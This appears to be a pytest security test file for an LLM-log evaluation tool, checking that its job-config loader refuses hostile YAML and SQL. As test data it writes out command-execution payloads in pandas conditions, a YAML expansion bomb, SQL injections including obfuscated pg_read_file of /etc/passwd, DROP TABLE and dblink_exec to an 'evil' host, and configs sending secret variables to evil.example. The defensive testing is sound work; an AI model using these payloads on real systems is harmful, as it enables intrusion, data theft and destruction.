"""A job config is data, never code: each abuse that once worked is refused at load, exit 2."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

from evaluators import EvalContext
from evaluators.records import LogRecord
from evaluators.registry import build_evaluator
from tasks.config import load_job, parse_job
from tasks.errors import ConfigError
from tests.conftest import utc

PROJECT = Path(__file__).resolve().parents[2]


def job_with(**overrides: object) -> dict[str, object]:
    return {"deployment": "hostile", **overrides}


def refused(data: dict[str, object]) -> str:
    with pytest.raises(ConfigError) as caught:
        parse_job(data)
    return str(caught.value)


def test_a_pandas_row_condition_is_refused_and_never_runs(tmp_path: Path) -> None:
    marker = tmp_path / "pwned.txt"
    payload = f"@pd.io.common.os.system('touch {marker}') == 0"
    config = tmp_path / "hostile.yaml"
    config.write_text(
        "deployment: hostile\n"
        "quality:\n"
        "  expectations:\n"
        "    - type: expect_column_values_to_not_be_null\n"
        f'      kwargs: {{column: prompt, condition_parser: pandas, row_condition: "{payload}"}}\n'
    )
    with pytest.raises(ConfigError, match="condition_parser, row_condition are not allowed"):
        load_job(config)
    assert not marker.exists()


def test_only_listed_expectation_types_and_plain_kwargs_are_accepted() -> None:
    assert "is not allowed" in refused(
        job_with(
            quality={
                "expectations": [
                    {"type": "expect_column_values_to_match_regex",
                     "kwargs": {"column": "prompt", "regex": "^(a+)+$"}}
                ]
            }
        )
    )  # fmt: skip
    message = refused(
        job_with(
            quality={
                "expectations": [
                    {"type": "expect_column_values_to_be_between",
                     "kwargs": {"column": "latency_ms", "max_value": {"$PARAMETER": "now()"}}}
                ]
            }
        )
    )  # fmt: skip
    assert "must be a plain value" in message
    ok = parse_job(
        job_with(
            quality={
                "expectations": [
                    {"type": "expect_column_values_to_be_in_set",
                     "kwargs": {"column": "environment", "value_set": ["production"]}}
                ]
            }
        )
    )  # fmt: skip
    assert ok.quality.expectations[0].kwargs["value_set"] == ["production"]


def test_a_yaml_expansion_bomb_is_refused_before_it_expands(tmp_path: Path) -> None:
    levels = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    for i in range(1, 10):
        levels.append(f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]")
    config = tmp_path / "bomb.yaml"
    config.write_text("deployment: hostile\n" + "\n".join(levels) + "\n")
    assert len(config.read_bytes()) < 1500  # 10^10 values once expanded
    with pytest.raises(ConfigError, match="expands to more than"):
        load_job(config)


def test_a_duplicated_key_is_refused_not_silently_overwritten(tmp_path: Path) -> None:
    config = tmp_path / "dup.yaml"
    config.write_text(
        "deployment: hostile\nbudget:\n  max_usd_per_run: 1\n  max_usd_per_run: 900\n"
    )
    with pytest.raises(ConfigError, match="'max_usd_per_run' appears twice"):
        load_job(config)


@pytest.mark.parametrize(
    "budget",
    [{"max_calls_per_run": 1e23}, {"max_usd_per_day": float("inf")}, {"max_usd_per_run": float("nan")},
     {"prices": {"openai/x": {"input_usd_per_mtok": 1e300, "output_usd_per_mtok": 1}}}],
)  # fmt: skip
def test_numbers_beyond_what_the_ledger_can_hold_are_refused(budget: dict[str, object]) -> None:
    assert "budget" in refused(job_with(budget=budget))


@pytest.mark.parametrize(
    "name", ["ASSAY_SLACK_BOT_TOKEN", "ASSAY_DATABASE_URL", "ASSAY_WAREHOUSE_URL", "HOME", "AWS_SECRET_ACCESS_KEY"]
)  # fmt: skip
def test_api_key_env_cannot_name_assays_own_secrets_or_other_variables(name: str) -> None:
    judge = {"name": "toxicity", "model": "openai/judge", "api_base": "https://evil.example/v1"}
    message = refused(job_with(evaluators=[{**judge, "api_key_env": name}]))
    assert "is not a judge key" in message
    fallback = {"model": "openai/other", "api_key_env": name}
    assert "is not a judge key" in refused(
        job_with(
            evaluators=[{"name": "toxicity", "model": "openai/judge", "fallbacks": [fallback]}]
        )
    )


@pytest.mark.parametrize("judge", ["conversation_resolved", "agent_goal_completed"])
def test_a_session_or_trace_judge_cannot_send_assays_secrets_to_a_host_it_names(judge: str) -> None:
    message = refused(job_with(evaluators=[{
        "name": judge, "model": "openai/judge", "api_base": "https://evil.example/v1",
        "api_key_env": "ASSAY_DATABASE_URL"}]))  # fmt: skip
    assert "is not a judge key" in message


@pytest.mark.parametrize(
    "sessions",
    [{"end": {"column": "event; DROP TABLE assay.scores", "values": ["x"]}},
     {"end": {"column": "event", "values": ["x" * 201]}},
     {"end": {"column": "event", "values": [str(i) for i in range(21)]}},
     {"max_steps": 10**9}, {"idle": "__import__('os')"}],
)  # fmt: skip
def test_session_settings_are_bounded_data(sessions: dict[str, object]) -> None:
    assert "sessions" in refused(job_with(sessions=sessions))


def test_provider_and_prefixed_judge_keys_are_accepted() -> None:
    for name in ("OPENAI_API_KEY", "ASSAY_JUDGE_KEY_TEAM_PROXY"):
        parse_job(
            job_with(evaluators=[{"name": "toxicity", "model": "openai/j", "api_key_env": name}])
        )


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM assay.llm_logs WHERE pg_terminate_backend(pg_backend_pid() + 1)",
        "SELECT *, setval('assay.some_seq', 1) FROM assay.llm_logs",
        "WITH gone AS (DELETE FROM assay.llm_logs RETURNING *) SELECT * FROM gone",
        "SELECT pg_read_file('/etc/passwd') AS prompt, now() AS ts, '1' AS id",
        "SELECT * FROM assay.llm_logs; DROP TABLE assay.llm_logs",
        "SELECT * FROM query_to_xml('select pg_termin' || 'ate_backend(1)', true, true, '')",
    ],
)
def test_source_queries_with_side_effects_are_refused(query: str) -> None:
    assert "source.query" in refused(job_with(source={"query": query}))


async def test_a_catastrophic_user_regex_is_an_error_score_not_a_hung_run() -> None:
    # (a+)+ is defused by the regex library's optimiser; (a|a)+ backtracks exponentially in any
    # backtracking engine.
    evaluator = build_evaluator("regex", {"pattern": "^(a|a)+$", "field": "response"})
    record = LogRecord(id="r1", ts=utc(2026, 1, 1), prompt="p", response="a" * 40 + "b")
    score = await evaluator.evaluate(record, EvalContext(deployment="d", run_id="r"))
    assert score.status == "error" and "longer than" in (score.reason or "")
    fine = LogRecord(id="r2", ts=utc(2026, 1, 1), prompt="p", response="aaaa")
    assert (await evaluator.evaluate(fine, EvalContext(deployment="d", run_id="r"))).passed


def test_the_installed_cli_refuses_a_hostile_config_with_exit_2(tmp_path: Path) -> None:
    marker = tmp_path / "pwned.txt"
    config = tmp_path / "hostile.yaml"
    config.write_text(
        "deployment: hostile\nquality:\n  expectations:\n"
        "    - {type: expect_column_values_to_not_be_null, kwargs: {column: prompt, "
        f"condition_parser: pandas, row_condition: \"@pd.io.common.os.system('touch {marker}') == 0\"}}}}\n"
    )
    assay = Path(sys.executable).parent / "assay"
    done = subprocess.run(
        [str(assay), "run", "hostile", "--config", str(config)],
        capture_output=True, text=True, timeout=120, env={**os.environ, "ASSAY_DATABASE_URL": "postgresql://127.0.0.1:1/none"},
    )  # fmt: skip
    assert done.returncode == 2, done.stdout + done.stderr
    assert "not allowed" in done.stderr and "Traceback" not in done.stderr
    assert not marker.exists()


@pytest.mark.parametrize(
    "query",
    [
        "SELECT pg_read_file/**/('/etc/hostname') AS prompt, now() AS ts, '1' AS id",
        "SELECT pg_read_file -- a comment\n('/etc/hostname') AS prompt, now() AS ts, '1' AS id",
        "SELECT U&\"pg\\005fread_file\"('/etc/hostname') AS prompt, now() AS ts, '1' AS id",
        "SELECT * FROM assay.llm_logs WHERE pg_terminate_backend/**/(0)",
        'SELECT * FROM assay.llm_logs WHERE "PG_CATALOG"."pg_sleep"(1) IS NULL',
        "SELECT * FROM assay.llm_logs, LATERAL pg_ls_dir('.') AS f",
        "SELECT usename AS prompt, now() AS ts, '1' AS id FROM pg_catalog.pg_user",
        "SELECT * INTO TABLE stolen FROM assay.llm_logs",
        "SELECT * FROM assay.llm_logs FOR UPDATE",
        "SELECT set_config('statement_timeout', '0', false), * FROM assay.llm_logs",
        "SELECT * FROM dblink_exec('host=evil', 'select 1') AS t(x int)",
    ],
)
def test_hidden_calls_are_found_by_the_parser(query: str) -> None:
    assert "source.query" in refused(job_with(source={"query": query}))


def test_hidden_calls_did_reach_the_server_without_the_check(engine: "object") -> None:
    """The attack, for the record: READ ONLY does not stop a file read (so only the check does)."""
    import sqlalchemy as sa

    with engine.connect() as conn:  # type: ignore[attr-defined]
        conn.execute(sa.text("SET TRANSACTION READ ONLY"))
        try:
            got = conn.execute(sa.text("SELECT U&\"pg\\005fread_file\"('PG_VERSION')")).scalar()
        except sa.exc.DBAPIError as exc:  # a non-superuser role: refused by the server itself
            got = None
            assert "permission denied" in str(exc)
    assert got is None or got.strip().isdigit()


def test_ordinary_queries_are_accepted() -> None:
    for query in (
        "SELECT l.*, l.metadata->>'event' AS event FROM assay.llm_logs l",
        "WITH recent AS (SELECT * FROM assay.llm_logs WHERE ts > now() - interval '1 day') "
        "SELECT id, ts, lower(prompt) AS prompt, coalesce(response, '') AS response FROM recent",
        "SELECT id, ts, prompt, pg_typeof(cost_usd)::text AS topic FROM assay.llm_logs;",
    ):
        parse_job(job_with(source={"query": query}))
